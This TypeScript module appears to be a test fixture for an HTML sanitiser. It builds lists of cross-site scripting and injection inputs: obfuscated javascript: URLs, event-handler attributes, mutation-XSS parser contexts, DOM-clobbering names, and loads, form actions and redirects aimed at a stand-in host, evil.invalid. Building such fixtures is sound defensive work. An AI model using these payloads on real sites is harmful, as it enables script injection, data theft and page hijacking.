const PWN = 'window.__pwned=1';
const EVIL = 'https://evil.invalid';

/** Names that a page's scripts, this library's or the sanitiser's read from a document, a window, a form or an element. */
const NAMES =
  'location body head forms cookie getElementById querySelector createElement implementation defaultView attributes children nodeName parentNode firstChild remove textContent innerHTML name self top parent opener navigator customElements trustedTypes care-widgets care-title constructor __proto__ hasOwnProperty';

const SCRIPT_ADDRESSES = [
  `javascript:${PWN}`,
  `\u0001javascript:${PWN}`,
  `java\tscript:${PWN}`,
  `java\n\rscript:${PWN}`,
  `&#x6a;avascript:${PWN}`,
  `javascript&colon;${PWN}`,
  `JaVaScRiPt&#58${PWN}`,
  `javascript://%0a${PWN}`,
  `\u00a0javascript:${PWN}`,
  `\u2028javascript:${PWN}`,
  `feed:javascript:${PWN}`,
  `vbscript:${PWN}`,
  `data:text/html,<script>${PWN}</script>`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${PWN}'/>`,
  'data:;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'about:blank',
  'intent://evil.invalid#Intent;end',
  `//evil.invalid\\@site.example/`,
];

const FOREIGN_ADDRESSES = [
  '//evil.invalid/a',
  '\\\\evil.invalid/b',
  '/\\evil.invalid/c',
  `${EVIL}/d`,
  'https:/evil.invalid/e',
];

/** Attributes that load, send, lay out, name or open something, on an element that stays. */
const ATTRIBUTES = [
  `ping="${EVIL}"`,
  `style="position:fixed;inset:0;z-index:9999;background:url(${EVIL}/s)"`,
  'style="margin:-999px;width:9999px"',
  `background="${EVIL}/t"`,
  `poster="${EVIL}/p"`,
  `imagesrcset="${EVIL}/i"`,
  `formaction="javascript:${PWN}"`,
  `xlink:href="javascript:${PWN}"`,
  `manifest="${EVIL}/m"`,
  `itemscope itemtype="${EVIL}" itemid="${EVIL}"`,
  'part="title link body"',
  'slot="body"',
  'class="care-card fixed inset-0"',
  'is="x-evil"',
  'popover="auto"',
  'popovertarget="pop"',
  'commandfor="pop" command="show-modal"',
  'interestfor="pop"',
  'anchor="pop"',
  'contenteditable autofocus tabindex="1" accesskey="a"',
  `onfocus="${PWN}" onmouseover="${PWN}" onanimationstart="${PWN}" onbeforematch="${PWN}" onscrollend="${PWN}"`,
  'target="_top" rel="opener" download="x.exe"',
  'nonce="x" integrity="x" crossorigin="use-credentials" fetchpriority="high" attributionsrc',
  'role="dialog" aria-modal="true" aria-hidden="true" aria-label="x"',
  'inert',
  `data-care-widget="contact" data-phone="1" data-care-endpoint="${EVIL}"`,
  'data-care-body data-care-block="table" data-care-site="bank.example" data-care-align="left" data-care-structured-data',
  'width="99999" height="99999"',
  'dir="rtl" lang="x-evil"',
];
const BEARERS = ['a href="/x"', 'p', 'img src="/x.png" alt="i"', 'hr', 'td', 'details open', 'h2', 'ul'];

const ELEMENTS = [
  `<script>${PWN}</script>`,
  `<script src="${EVIL}/x.js" async></script><script type="module">${PWN}</script>`,
  '<script type="speculationrules">{"prefetch":[{"urls":["https://evil.invalid/"]}]}</script>',
  '<script type="importmap">{"imports":{"lit":"https://evil.invalid/"}}</script>',
  `<img src=x onerror=${PWN}>`,
  `<image src=x onerror=${PWN}>`,
  `<svg/onload=${PWN}><animate onbegin=${PWN} attributeName=x dur=1s><set attributeName=onmouseover to=${PWN} />`,
  `<svg><a><animate attributeName=href values=javascript:${PWN} /><text>t</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='${EVIL}/u'/></svg>#x"/></svg>`,
  `<svg><image href="${EVIL}/v"/><feImage xlink:href="${EVIL}/w"/><style>@import '${EVIL}/y';*{display:none}</style></svg>`,
  `<svg><discard onbegin=${PWN}></svg><svg><foreignObject><iframe src="javascript:${PWN}"></iframe></foreignObject></svg>`,
  `<math href="javascript:${PWN}"><mi xlink:href="javascript:${PWN}">m</mi><maction actiontype="statusline#${EVIL}">n</maction></math>`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}"><meta http-equiv="Content-Security-Policy" content="img-src *"><meta name="referrer" content="unsafe-url">`,
  `<base href="${EVIL}/" target="_blank"><a href="relative">r</a>`,
  `<link rel=stylesheet href="${EVIL}/z"><link rel=dns-prefetch href="${EVIL}"><link rel=modulepreload href="${EVIL}/m.js"><link itemprop=x href="${EVIL}/q">`,
  `<style>@import "${EVIL}/1";@font-face{font-family:x;src:url(${EVIL}/2)}body{position:fixed;visibility:hidden}</style>`,
  `<form id=f action="${EVIL}" onsubmit="${PWN}"><input type=image src="${EVIL}/3"><input name=attributes><button>Go</button></form><button form=f formaction="${EVIL}">b</button>`,
  `<input type=hidden oncontentvisibilityautostatechange="${PWN}" style="content-visibility:auto"><textarea autofocus onfocus="${PWN}">`,
  `<object data="data:text/html,<script>parent.__pwned=1</script>"></object><embed src="javascript:${PWN}"><applet archive="${EVIL}/4"></applet>`,
  `<iframe srcdoc="&lt;script>parent.__pwned=1&lt;/script>"></iframe><iframe name="location" src="${EVIL}"></iframe>`,
  `<video src="${EVIL}/5" autoplay onloadstart=${PWN}><track default src="${EVIL}/6"></video><audio src="${EVIL}/7" autoplay controls></audio>`,
  `<picture><source srcset="${EVIL}/8 1x, //evil.invalid/9 2x"><img src="/own.png" srcset="${EVIL}/10 1x" alt="p"></picture>`,
  `<img src="/own.png" srcset="/a.png 1x,${EVIL}/11 2x,/b.png 1h,${EVIL}/12" sizes="100vw" alt="s">`,
  `<frameset onload="${PWN}"><frame src="${EVIL}">`,
  `<body onload="${PWN}" background="${EVIL}/13"><html onclick="${PWN}"><head><title>t</title>`,
  `<dialog open style="position:fixed">d</dialog><div popover=manual id=pop>o</div>`,
  `<portal src="${EVIL}"></portal><fencedframe src="${EVIL}"></fencedframe><model src="${EVIL}/14"></model><controlledframe src="${EVIL}"></controlledframe>`,
  '<geolocation autolocate></geolocation><permission type="camera"></permission><usermedia></usermedia>',
  `<care-config endpoint="${EVIL}"><care-article slug="x"></care-article></care-config><care-article-list endpoint="${EVIL}"></care-article-list>`,
  '<care-contact phone="+1 555 0100" layout="sticky"></care-contact><care-newsletter action="https://evil.invalid/"></care-newsletter>',
  `<div data-care-widget="newsletter" data-action="${EVIL}"></div><div data-care-endpoint="${EVIL}" data-care-article-url="javascript:${PWN}//{slug}"></div>`,
  '<template shadowrootmode=open><slot></slot><style>:host{position:fixed}</style></template>',
  '<slot name="body">s</slot><p slot="error">e</p>',
  `<marquee onstart=${PWN} behavior=alternate width=9999>m</marquee><blink>b</blink><keygen><isindex action="javascript:${PWN}">`,
  '<label for="page-input">l</label><output for="page-input">o</output><map name="m"><area shape="default" href="https://evil.invalid/"></map><img usemap="#m" src="/own.png" alt="u">',
  '<table width="99999" height="99999" cellpadding="9999" border="999"><tr><td width="99999" nowrap>wide</table>',
  '<hr width="99999" size="9999"><pre width="9999">p</pre><font size="7">f</font><ol start="-99999999"><li value="99999999">n</ol>',
  `${'<blockquote><ul><li>'.repeat(5)}far in`,
  `<a href="/x">${'<sup>'.repeat(60)}up${'</sup>'.repeat(60)}</a>`,
  `<p>${'\u202e'.repeat(50)}evil\u2066 words</p><p>z${'\u0335\u0489\u030d'.repeat(5)}</p>`,
  `<p>${'W'.repeat(3000)}</p><h2>${'W'.repeat(500)}</h2><figure><figcaption>${'W'.repeat(500)}</figcaption></figure>`,
  `<scr\u0000ipt>${PWN}</scr\u0000ipt><img\u000csrc=x\u000conerror=${PWN}><img/src=x/onerror=${PWN}>`,
  `<?xml-stylesheet href="${EVIL}/15"?><!DOCTYPE x [<!ENTITY e SYSTEM "${EVIL}">]>&e;<!--[if IE]><img src=x onerror=${PWN}><![endif]-->`,
  `[embed]javascript:${PWN}[/embed]<p>javascript:${PWN}</p><p>//evil.invalid/x</p>[caption]<img src=${EVIL}/16 onerror=${PWN}>c[/caption][video src="${EVIL}/17"]`,
];

/** Where parsers change their mind about what follows. */
const CONTEXTS: readonly ((inner: string) => string)[] = [
  (inner) => inner,
  (inner) => `<svg>${inner}</svg>`,
  (inner) => `<svg><foreignObject>${inner}</foreignObject></svg>`,
  (inner) => `<svg><desc><svg><title>${inner}`,
  (inner) => `<svg></p><style><a id="</style>${inner}">`,
  (inner) => `<math><mtext>${inner}</mtext></math>`,
  (inner) => `<math><annotation-xml encoding="text/html">${inner}`,
  (inner) => `<math><mtext><table><mglyph><style><!--</style>${inner}`,
  (inner) => `<form><math><mtext></form><form><mglyph><style></math>${inner}`,
  (inner) => `<noscript>${inner}</noscript>`,
  (inner) => `<noscript><p title="</noscript>${inner}">`,
  (inner) => `<template>${inner}</template>`,
  (inner) => `<select><option>${inner}</select>`,
  (inner) => `<select><template><svg><style>${inner}</select>`,
  (inner) => `<table>${inner}</table>`,
  (inner) => `<table><tr><td><table>${inner}</td></table>${inner}`,
  (inner) => `<table><caption><svg><desc><table>${inner}`,
  (inner) => `<textarea>${inner}</textarea>${inner}`,
  (inner) => `<xmp>${inner}</xmp><noembed>${inner}</noembed><noframes>${inner}</noframes>`,
  (inner) => `<iframe>${inner}</iframe><object>${inner}</object><video>${inner}</video>`,
  (inner) => `<!-->${inner}<!--${inner}--!>${inner}`,
  (inner) => `<svg><![CDATA[${inner}]]></svg><![CDATA[${inner}]]>`,
  (inner) => `<p title='${inner.replaceAll("'", '"')}'>t</p><p title="<b">${inner}`,
  (inner) => `<a href="/a"><a>${inner}<button><p><b><a>${inner}</b></p></button>`,
  (inner) => `<x-evil><button><dialog>${inner}</dialog></button></x-evil>`,
  (inner) => `<details><summary>${inner}</summary>${inner}</details>`,
  (inner) => `${inner}<plaintext>${inner}`,
];

const bearing = (bearer: string, attribute: string): string => {
  const name = /^\w+/.exec(bearer)?.[0] ?? '';
  const element = `<${bearer} ${attribute}>words</${name}>`;
  return name === 'td' ? `<table><tr>${element}</table>` : element;
};

const PIECES: readonly string[] = [
  ...ELEMENTS,
  ...SCRIPT_ADDRESSES.map(
    (address) =>
      `<a href="${address}">a</a><area href="${address}"><img src="${address}" alt="i"><q cite="${address}">q</q>`,
  ),
  ...FOREIGN_ADDRESSES.map(
    (address) =>
      `<img src="${address}" srcset="${address} 2x" alt="i"><video src="${address}"></video><input src="${address}" type="image">`,
  ),
  ...BEARERS.flatMap((bearer) => ATTRIBUTES.map((attribute) => bearing(bearer, attribute))),
  ...NAMES.split(' ').map(
    (name) =>
      `<img name="${name}" src="/x.png" alt="i"><form id="${name}" name="${name}"><input name="${name}"></form><a id="${name}"></a><a id="${name}" name="${name}" href="https://evil.invalid/">a</a><embed name="${name}"><object id="${name}"></object><p id="${name}">p</p>`,
  ),
];

/** Every piece by itself. */
export const PLAIN: readonly string[] = PIECES;

/** Each context with each of the pieces that are elements, and with some of the others. */
export const NESTED: readonly string[] = CONTEXTS.slice(1).flatMap((context, index) =>
  [...ELEMENTS, ...PIECES.slice(ELEMENTS.length).filter((_, at) => at % CONTEXTS.length === index)].map(context),
);

/** Of both, what is shown in every element: all that are elements or addresses, and some of the others. */
export const SHOWN: readonly string[] = [
  ...PIECES.filter((_, at) => at < ELEMENTS.length + SCRIPT_ADDRESSES.length || at % 4 === 0),
  ...NESTED.filter((_, at) => at % 19 === 0),
];
